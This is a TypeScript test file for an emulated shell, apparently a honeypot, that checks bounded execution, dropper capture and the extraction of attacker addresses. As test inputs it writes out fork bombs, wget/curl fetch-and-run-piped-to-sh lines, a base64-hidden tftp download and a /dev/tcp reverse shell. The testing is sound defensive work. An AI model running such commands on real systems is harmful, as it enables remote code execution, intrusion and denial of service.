import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runShell, shellSession, summarise, typeShell } from '../../test/support/run-shell.ts';
import { addressesInText } from './addresses.ts';

const systems = ['linux-gnu', 'linux-busybox'] as const;
const bytes = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));

/** Text that is rich in what the language is made of. */
const shellText = fc
  .array(
    fc.constantFrom(
      'echo',
      ' ',
      'a',
      '$x',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '|',
      '&',
      ';',
      '\n',
      '\r',
      '<<E',
      'E\n',
      '>',
      'f',
      '{',
      '}',
      'if',
      'then',
      'fi',
      'while',
      'do',
      'done',
      '$((',
      '))',
      '*',
      '[',
      ']',
      '${x:-',
      'case',
      'esac',
      'in',
      '\x03',
      '\x04',
      '\x7f',
      '\x1b[A',
      'cat',
      'read x',
      'sh',
      'exit',
      '\xff',
      '\0',
      '!',
      '(',
      '<(',
      'for i in',
      'eval',
      'passwd',
      'sed s/a/b/',
      'grep',
      'awk {print}',
      ': () { :|:& };:',
      'printf %99999s',
      'seq 9',
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

describe('the shell session', () => {
  it('answers any split of the same typed bytes alike', () => {
    fc.assert(
      fc.property(
        shellText,
        fc.array(fc.nat(200), { maxLength: 6 }),
        fc.constantFrom(...systems),
        (text, cuts, system) => {
          const whole = bytes(text);
          const places = [
            0,
            ...cuts.map((cut) => cut % (whole.length + 1)).sort((left, right) => left - right),
            whole.length,
          ];
          const pieces = places.slice(1).map((end, index) => whole.slice(places[index], end));
          expect(typeShell(system, pieces)).toEqual(typeShell(system, [whole]));
        },
      ),
      { numRuns: 250 },
    );
  });

  it('survives any bytes, as a command and as input, without a fault of its own', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          shellText,
          fc.uint8Array({ maxLength: 200 }).map((raw) => Buffer.from(raw).toString('latin1')),
        ),
        fc.constantFrom(...systems),
        (text, system) => {
          expect(runShell(system, text, 'input\n').fault).toBeNull();
          expect(typeShell(system, [bytes(text)]).fault).toBeNull();
        },
      ),
      { numRuns: 400 },
    );
  });

  it.each([
    'while :; do :; done',
    'yes() { echo y; yes; }; yes',
    'x=aaaaaaaa; while :; do x=$x$x; done',
    ':(){ :|:& };:',
    'cat /dev/zero',
    'while :; do echo endless; done',
    'i=0; while :; do i=$((i+1)); echo $i > /tmp/$i; done',
    'cat /dev/urandom | base64',
    'sh -c "$0" || f() { f | f & }; f',
    'eval "$(printf "%s" "$(seq 99999)")"',
  ])('ends %s within its bounds', (script) => {
    const run = runShell('linux-gnu', script);
    expect(run.fault).toBeNull();
    expect(run.output.length).toBeLessThan(2_200_000);
  });

  it('winds up what the visitor left running, though each nested shell reads the end of input as a line', () => {
    const run = typeShell('linux-busybox', [bytes('while :; do sh; done\r')]);
    expect(run.fault).toBeNull();
    expect(run.output.length).toBeLessThan(200_000);
  });

  it('captures what a dropper writes when it is made runnable, and what was never run at the end', () => {
    const run = runShell(
      'linux-busybox',
      'cd /tmp; echo -ne "\\x7f\\x45\\x4c\\x46" > d; echo -ne "\\x01" >> d; chmod 777 d; printf late > e',
    );
    expect(run.captures).toEqual([
      { name: '/tmp/d', how: 'echo', text: '\x7fELF\x01' },
      { name: '', how: 'printf', text: 'late' },
    ]);
  });

  it('finds the addresses of a second stage by running it', () => {
    const script =
      'h=198.51.100.9; cat > s.sh <<E\nwget http://$h/one\ncurl -O http://\\$1/two\nE\nsh s.sh 203.0.113.5; echo dGZ0cCAtZyAtciB4IDE5OC41MS4xMDAuNw== | base64 -d | sh';
    expect(runShell('linux-busybox', script).urls).toEqual(
      expect.arrayContaining(['http://198.51.100.9/one', 'http://203.0.113.5/two', 'tftp://198.51.100.7/x']),
    );
  });

  it('fetches nothing and yet goes on: a download is a file of this machine that runs', () => {
    const run = runShell(
      'linux-gnu',
      'cd /tmp && wget -q http://198.51.100.9/x86 -O k && chmod +x k && ./k && echo ran; curl -s http://198.51.100.9/i.sh | sh; echo $?',
    );
    expect(run.output).toBe('ran\n0\n');
    expect(run.captures).toEqual([]);
  });

  it.each([
    ['linux-gnu', 'nosuch', 'bash: line 1: nosuch: command not found\n'],
    ['linux-busybox', 'nosuch', 'sh: nosuch: not found\n'],
    ['linux-busybox', '/bin/busybox ECCHI', 'ECCHI: applet not found\n'],
    ['linux-busybox', 'cd /nope', "sh: cd: line 0: can't cd to /nope: No such file or directory\n"],
    ['linux-gnu', 'cd /nope', 'bash: line 1: cd: /nope: No such file or directory\n'],
    ['linux-busybox', 'cat /nope', "cat: can't open '/nope': No such file or directory\n"],
    ['linux-gnu', 'cat /nope', 'cat: /nope: No such file or directory\n'],
    [
      'linux-gnu',
      'cat < /dev/tcp/198.51.100.1/80',
      'bash: line 1: connect: Connection refused\nbash: line 1: /dev/tcp/198.51.100.1/80: Connection refused\n',
    ],
    ['linux-busybox', 'echo "a', 'sh: syntax error: unterminated quoted string\n'],
  ] as const)('on %s complains of %s as that system does', (system, command, expected) => {
    expect(runShell(system, command).output).toBe(expected);
  });

  it('tells the same machine everywhere', () => {
    const run = runShell(
      'linux-gnu',
      'uname -r; cat /proc/version | grep -c 5.10.0-21-amd64; nproc; grep -c ^processor /proc/cpuinfo; hostname; cat /etc/hostname',
    );
    expect(run.output).toBe('5.10.0-21-amd64\n1\n2\n2\nunit\nunit\n');
  });

  it('has one router, in the routing table of the kernel as in route and arp', () => {
    const { output } = runShell('linux-gnu', 'cat /proc/net/route; route -n; arp -a');
    const word = /\t00000000\t([0-9A-F]{8})\t/.exec(output)?.[1] ?? '';
    const address = Buffer.from(word, 'hex').reverse().join('.');
    expect(output).toMatch(new RegExp(`^0\\.0\\.0\\.0 +${address} `, 'm'));
    expect(output).toMatch(new RegExp(`\\(${address}\\) at (?:[0-9a-f]{2}:){5}[0-9a-f]{2} `));
  });

  it('gives typed input to the command that waits for it', () => {
    const session = shellSession('linux-gnu', false);
    const events = [
      ...session.run('cat > /tmp/k; wc -c < /tmp/k'),
      ...session.receive(bytes('abc')),
      ...session.receive(bytes('def\n')),
      ...session.end(),
    ];
    const run = summarise(events, session.fault);
    expect(run.output).toBe('7\n');
    expect(run.captures[0]?.text).toBe('abcdef\n');
  });

  it('edits lines and recalls them', () => {
    const run = typeShell('linux-gnu', [bytes('echo ab\x7fc\r\x1b[A\rexit\r')]);
    expect(run.commands).toEqual(['echo ac', 'echo ac', 'exit']);
  });
});

describe('addresses in text', () => {
  it('are found in URLs, /dev/tcp and bare addresses, not in versions', () => {
    expect(
      addressesInText(
        'x=http://a.example/b?c=1&d; bash -i >& /dev/tcp/198.51.100.2/4444; ./m -o 203.0.113.9:3333 v1.2.3.4.5',
      ),
    ).toEqual(['http://a.example/b?c=1&d', 'tcp://198.51.100.2:4444', '203.0.113.9:3333']);
  });
});
